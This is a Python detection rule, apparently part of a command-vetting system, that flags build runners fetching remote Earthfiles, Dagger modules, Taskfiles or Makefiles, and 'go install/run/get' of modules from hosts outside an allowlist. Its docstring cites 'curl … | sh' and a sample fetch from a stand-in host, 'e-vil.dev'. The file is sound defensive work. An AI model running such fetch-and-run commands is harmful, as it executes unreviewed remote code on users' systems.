"""Round 17 (t1u, issue 25): build definitions and programs fetched by their path at run time, off known places.

A build runner given a REMOTE definition runs steps nobody in this workspace wrote and Tier 1 never sees, as
``curl … | sh`` does: ``earthly github.com/x/y+target`` (a remote Earthfile), ``dagger call -m github.com/x/mod``
(a remote module), ``task --taskfile https://…`` (a remote Taskfile), ``just --justfile`` / ``make -f`` of a URL.
The call fails closed. Local definitions stay open (``earthly +build``, ``earthly ./ci+test``, ``dagger call -m
./ci``, ``task -t ./Taskfile.yml``).

``go install|run|get PATH@VERSION`` builds (and for ``run`` runs) the module found at PATH: a module path off the
hosts and vanity domains everyday Go work uses (``golang.org/x``, ``github.com``, ``honnef.co``, ``mvdan.cc`` …) is
code from a host nobody vouched for (``go install e-vil.dev/x/cmd/gen@latest``). Known hosts stay open, as round 13
left ``go install`` by name open; a local package (``./cmd/x``) too.
"""
from __future__ import annotations

import re

from evaluation.verdicts.tier1.options import option_values
from evaluation.verdicts.tier1.scene_model import View

_EARTHLY_REMOTE = re.compile(r"^(?:[A-Za-z0-9-]{1,63}\.){1,8}[A-Za-z]{2,24}/[^+\s]{1,300}\+[\w.-]{1,100}$")
_HOST_PATH = re.compile(r"^(?:https?://|git@|git://|(?:[A-Za-z0-9-]{1,63}\.){1,8}[A-Za-z]{2,24}/)")
_GO_KNOWN = ("golang.org/", "github.com/", "gitlab.com/", "bitbucket.org/", "honnef.co/", "google.golang.org/",
             "gopkg.in/", "go.uber.org/", "k8s.io/", "sigs.k8s.io/", "mvdan.cc/", "gotest.tools/", "go.etcd.io/",
             "cloud.google.com/", "gocloud.dev/", "go.opentelemetry.io/", "filippo.io/", "rsc.io/", "buf.build/",
             "connectrpc.com/", "gioui.org/", "golang.zx2c4.com/", "tailscale.com/", "entgo.io/", "gorm.io/",
             "go.mozilla.org/", "go.temporal.io/", "gotest.tools/", "helm.sh/", "istio.io/", "knative.dev/",
             "go.k6.io/", "gvisor.dev/", "cuelang.org/", "cue.dev/", "goreleaser.com/", "codeberg.org/",
             "git.sr.ht/", "go.googlesource.com/", "golang.design/", "modernc.org/", "lukechampine.com/",
             "nhooyr.io/", "storj.io/", "dagger.io/", "go.jetpack.io/", "pkg.go.dev/", "gitea.com/", "go.starlark.net/")
_FILE_OPTIONS = {"task": ("--taskfile", "-t"), "go-task": ("--taskfile", "-t"), "just": ("--justfile", "-f"),
                 "make": ("-f", "--file", "--makefile"), "gmake": ("-f", "--file", "--makefile"),
                 "mage": ("-f",), "dagger": ("-m", "--mod"), "earthly": ()}


def remote_build(view: View) -> str | None:
    """Why ``view`` runs a remote build definition or a module off known hosts (see module), else None."""
    argv, program = view.command.argv, view.command.program
    if program == "go":
        return _go(argv)
    options = _FILE_OPTIONS.get(program)
    if options is None:
        return None
    if program == "earthly":
        target = next((w for w in argv[1:] if _EARTHLY_REMOTE.match(w)), None)
        return f"earthly runs {target!r}, a remote Earthfile Tier 1 never sees" if target else None
    remote = next((v for v in option_values(argv, options) if _HOST_PATH.match(v)), None)
    return f"{program} runs the definition {remote!r}, fetched at run time, which Tier 1 never sees" if remote else None


def _go(argv: tuple[str, ...]) -> str | None:
    if argv[1:2] not in (("install",), ("run",), ("get",)):
        return None
    for word in argv[2:]:
        if "@" in word and not word.startswith(("-", ".", "/")) and _HOST_PATH.match(word):
            if not word.lower().startswith(_GO_KNOWN):
                return f"go {argv[1]} {word!r}: a module from a host Tier 1 does not know, built from code it never sees"
    return None
